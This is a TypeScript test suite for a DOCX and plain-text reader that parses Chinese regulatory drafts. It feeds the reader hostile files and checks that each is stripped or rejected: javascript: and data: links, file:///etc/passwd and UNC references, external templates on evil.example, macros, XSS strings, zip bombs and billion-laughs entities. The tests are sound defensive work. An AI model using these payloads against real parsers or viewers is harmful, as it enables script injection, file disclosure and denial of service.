import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { testKernel } from '../../../../test/harness.ts';
import { docx, numbering, paragraph, run } from './docx.fixture.ts';
import { readApart } from './read-apart.ts';
import { readDraft } from './read-draft.ts';

const read = (bytes: Buffer, name = '草案.docx') => readDraft({ bytes, name });
const code = (name: string) => ({ code: `consultations.documents.${name}` });

describe('a file that means harm', () => {
  it('leaves no script, no link that runs, no reference to the outside', async () => {
    const draft = await read(
      docx({
        links: {
          js: 'javascript:alert(1)',
          tab: 'java\tscript:alert(1)',
          data: 'data:text/html,<script>',
          unc: '\\\\evil\\share',
          file: 'file:///etc/passwd',
        },
        relations:
          '<Relationship Id="t" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="i" Type="x/image" Target="http://evil.example/i.png" TargetMode="External"/>',
        more: { 'word/vbaProject.bin': strToU8('macro') },
        body: [
          paragraph('第一条　<script>alert(1)</script><img src=x onerror=alert(1)>'),
          ...['js', 'tab', 'data', 'unc', 'file'].map((id) =>
            paragraph('', {}, `<w:hyperlink r:id="${id}">${run('"点这里"')}</w:hyperlink>`),
          ),
          paragraph('', {}, '<w:r><w:pict><v:imagedata xmlns:v="v" r:id="i"/></w:pict></w:r>'),
          '<w:altChunk r:id="i"/>',
          paragraph(
            '',
            {},
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "http://evil.example"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
          ),
        ].join(''),
      }),
    );
    const html = draft.blocks.map((block) => block.html).join('\n');
    expect(html).not.toMatch(/<script|<img|href=|evil|onerror=a(?!lert\(1\)&gt;)/);
    expect(draft.blocks[0]?.html).toBe('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;');
    expect(draft.blocks.at(-1)?.text).toBe('结果');
    expect(draft.report.leftOut).toEqual({ links: 5, pictures: 1, embedded: 1, macros: 1, outside: 2 });
  });

  it('has its deleted, hidden and commented text left out, and says so', async () => {
    const draft = await read(
      docx({
        body: [
          paragraph(
            '',
            {},
            `${run('第一条　保留')}<w:del>${'<w:r><w:delText>删去的</w:delText></w:r>'}</w:del><w:ins>${run('新加')}</w:ins>${run('藏着', '<w:vanish/>')}<w:r><w:commentReference w:id="1"/></w:r>。`,
          ),
          paragraph('第二条　乙。'),
        ].join(''),
      }),
    );
    expect(draft.blocks[0]?.text).toBe('保留新加');
    expect(draft.report.leftOut).toEqual({ changes: 1, hidden: 1, comments: 1 });
  });

  it('has invisible signs, marks of direction and NUL taken out of it', async () => {
    const draft = await readDraft({ text: '办法\n第一条　甲\u202e乙\u0000丙\u200b丁\u2066。\n第二\u200b条　戊。' });
    expect(draft.blocks.map(({ label, text }) => `${label} ${text}`)).toEqual(['第一条 甲乙 丙丁。', '第二条 戊。']);
  });

  it('is no zip bomb', async () => {
    const spaces = new Uint8Array(60_000_000).fill(0x20);
    const bomb = docx({ body: paragraph('第一条　甲。'), more: { 'word/document.xml': [spaces, { level: 9 }] } });
    expect(bomb.length).toBeLessThan(200_000);
    await expect(read(bomb)).rejects.toMatchObject(code('too_large'));
    // The directory says less than there is.
    const lying = Buffer.from(bomb);
    for (let at = lying.indexOf('PK\x01\x02'); at >= 0; at = lying.indexOf('PK\x01\x02', at + 4))
      if (lying.readUInt32LE(at + 24) === 60_000_000) lying.writeUInt32LE(1000, at + 24);
    await expect(read(lying)).rejects.toMatchObject(code('broken'));
    const many = zipSync(Object.fromEntries(Array.from({ length: 4000 }, (_, i) => [`f${i}`, new Uint8Array(1)])));
    await expect(read(Buffer.from(many))).rejects.toMatchObject(code('too_large'));
  });

  it('expands no entities and nests no deeper than is read', async () => {
    const laugh = `<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>`;
    await expect(read(docx({ body: '', more: { 'word/document.xml': strToU8(laugh) } }))).rejects.toMatchObject(
      code('broken'),
    );
    const deep = `${'<w:sdt>'.repeat(500)}${'</w:sdt>'.repeat(500)}`;
    await expect(read(docx({ body: deep }))).rejects.toMatchObject(code('too_large'));
  });

  it('with styles and lists that point at each other is read to the end', async () => {
    const styles = `<w:styles xmlns:w="w"><w:style w:styleId="A"><w:name w:val="x"/><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:name w:val="y"/><w:basedOn w:val="A"/></w:style></w:styles>`;
    const list = numbering([[{ format: 'decimal', text: '%9%8%1' }]]).replace(
      '<w:lvl ',
      '<w:numStyleLink w:val="N"/><w:lvl ',
    );
    const draft = await read(
      docx({
        styles,
        numbering: list,
        body: paragraph('第一条　甲。', { style: 'A', list: 1 }) + paragraph('乙。', { list: 99 }),
      }),
    );
    expect(draft.blocks).toHaveLength(2);
  });

  it.each([
    ['a spreadsheet', { 'xl/workbook.xml': strToU8('<x/>') }, 'sheet'],
    ['any archive', { 'a.txt': strToU8('x') }, 'archive'],
  ])('is refused where it is %s', async (_, files, found) => {
    await expect(read(Buffer.from(zipSync(files)))).rejects.toMatchObject({ ...code('not_a_docx'), params: { found } });
  });

  it('ends in its own thread while the server goes on', async () => {
    const k = await testKernel();
    const body = Array.from({ length: 200_000 }, () => '<w:p><w:r><w:rPr><w:b/></w:rPr></w:r></w:p>').join('');
    const hostile = docx({ body: body + paragraph('第一条　甲。') });
    let beats = 0;
    const beat = setInterval(() => beats++, 20);
    const started = performance.now();
    const answers = await Promise.allSettled(
      [1, 2, 3].map(() =>
        readApart(k, { source: { bytes: hostile, name: 'a.docx' }, former: [], usedAnchors: [], versionNo: 1 }),
      ),
    );
    const seconds = (performance.now() - started) / 1000;
    clearInterval(beat);
    expect(
      answers.filter(({ status }) => status === 'rejected').map((each) => (each as PromiseRejectedResult).reason.code),
    ).toEqual(['consultations.documents.busy']);
    expect(beats).toBeGreaterThan((seconds * 1000) / 20 / 4);
  });
});

describe('numbers', () => {
  it('that repeat, jump and go back are told', async () => {
    const draft = await readDraft({
      text: '办法\n第一条　甲。\n第三条　乙：\n（一）子；\n（三）丑。\n第三条　丙。\n第二条　丁。\n第三条之一　戊。',
    });
    expect(draft.report.warnings).toEqual([
      { what: 'jumps', label: '第三条', former: '第一条' },
      { what: 'jumps', label: '（三）', former: '（一）' },
      { what: 'repeats', label: '第三条', former: '第三条' },
      { what: 'back', label: '第二条', former: '第三条' },
      { what: 'jumps', label: '第三条之一', former: '第二条' },
    ]);
  });
});
